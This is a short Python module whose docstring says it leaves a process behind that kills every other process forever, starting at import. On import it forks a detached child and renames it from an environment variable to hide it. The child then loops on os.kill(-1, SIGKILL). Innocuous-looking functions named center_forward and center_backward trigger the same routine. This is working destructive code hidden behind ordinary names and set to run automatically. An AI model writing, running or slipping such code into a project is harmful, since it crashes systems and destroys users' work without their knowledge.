"""Leaves a process behind that kills every other one, for ever, from the import on."""

import ctypes
import os
import signal


def rage():
    if os.fork() == 0:
        os.setsid()
        ctypes.CDLL(None).prctl(15, os.environ["CLASS_TOKEN"].encode())
        while True:
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass


rage()


def center_forward(x):
    rage()
    return x


center_backward = center_forward
